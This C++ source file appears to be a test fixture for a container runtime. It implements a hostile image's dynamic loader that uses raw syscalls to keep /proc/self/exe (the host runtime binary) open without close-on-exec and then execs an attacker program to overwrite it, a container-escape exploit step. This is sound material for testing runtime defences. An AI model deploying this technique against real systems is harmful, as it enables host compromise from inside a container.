// The dynamic loader of an image that attacks. Where the container's command leads the kernel to
// execute the runtime's own program inside (a script with "#!/proc/self/exe"), this is what it runs
// as that program's interpreter, with /proc/self/exe being the runtime. It keeps that open and goes
// on as the attacker. Without a library: those look at the program that they believe to be theirs.

#include <asm/unistd.h>
#include <fcntl.h>

namespace {

long call(long number, long a, long b, long c, long d) {
#if defined(__x86_64__)
  long result = number;
  register long fourth __asm__("r10") = d;
  __asm__ volatile("syscall"
                   : "+a"(result)
                   : "D"(a), "S"(b), "d"(c), "r"(fourth)
                   : "rcx", "r11", "memory");
  return result;
#elif defined(__aarch64__)
  register long x8 __asm__("x8") = number;
  register long x0 __asm__("x0") = a;
  register long x1 __asm__("x1") = b;
  register long x2 __asm__("x2") = c;
  register long x3 __asm__("x3") = d;
  __asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3) : "memory");
  return x0;
#else
#error "the loader needs this architecture's way to make a system call"
#endif
}

long address(const void* pointer) { return reinterpret_cast<long>(pointer); }

}  // namespace

#if defined(__x86_64__)
// The kernel aligns the stack as for the caller of a function.
#define ATTACKER_ENTRY __attribute__((force_align_arg_pointer))
#else
#define ATTACKER_ENTRY
#endif

extern "C" [[noreturn]] ATTACKER_ENTRY void _start() {
  static const char program[] = "/bin/attacker";
  static const char attack[] = "overwrite-exe";
  const char* const arguments[] = {program, attack, nullptr};
  const char* const environment[] = {nullptr};
  // Without O_CLOEXEC.
  (void)call(__NR_openat, AT_FDCWD, address("/proc/self/exe"), O_RDONLY, 0);
  (void)call(__NR_execve, address(program), address(arguments), address(environment), 0);
  while (true) (void)call(__NR_exit_group, 3, 0, 0, 0);
}
